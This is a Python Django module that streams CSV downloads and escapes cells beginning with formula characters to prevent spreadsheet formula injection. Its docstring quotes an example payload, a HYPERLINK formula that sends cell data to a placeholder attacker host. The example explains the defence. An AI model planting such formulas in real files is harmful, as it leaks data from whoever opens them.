"""CSV downloads. Every CSV the app produces goes through this module.

A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` (and, in some programs, a tab or a
carriage return) as a formula. Titles, reasons and comments are typed by users, so a title such as
`=HYPERLINK("http://evil.example/?"&A1)` would run when an auditor opens the export. Such text cells
get a leading apostrophe, which spreadsheets show as text and do not evaluate (the OWASP advice).
"""

import csv
from collections.abc import Iterable, Sequence
from datetime import date, datetime

from django.http import StreamingHttpResponse
from django.utils import timezone

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# Excel opens UTF-8 without a byte order mark as Latin-1 and garbles æ, ø and å.
BOM = "\ufeff"


def safe_cell(value) -> str | int | float:
    """One cell: numbers stay numbers; text that a spreadsheet would evaluate is neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "ja" if value else "nei"
    if isinstance(value, int | float):
        return value
    if isinstance(value, datetime):
        return (
            timezone.localtime(value).strftime("%Y-%m-%d %H:%M")
            if timezone.is_aware(value)
            else (value.strftime("%Y-%m-%d %H:%M"))
        )
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, list | tuple):
        value = ", ".join(str(item) for item in value)
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def safe_row(row: Iterable) -> list:
    return [safe_cell(value) for value in row]


class _Echo:
    """A file-like object whose write returns the line, so csv.writer can feed a streaming response."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Sequence[str], rows: Iterable[Iterable]) -> Iterable[str]:
    writer = csv.writer(_Echo())
    yield BOM + writer.writerow(safe_row(header))
    for row in rows:
        yield writer.writerow(safe_row(row))


def csv_response(filename: str, header: Sequence[str], rows: Iterable[Iterable]) -> StreamingHttpResponse:
    """Stream a CSV download: large exports never sit in memory as a whole."""
    response = StreamingHttpResponse(csv_lines(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["X-Content-Type-Options"] = "nosniff"
    return response
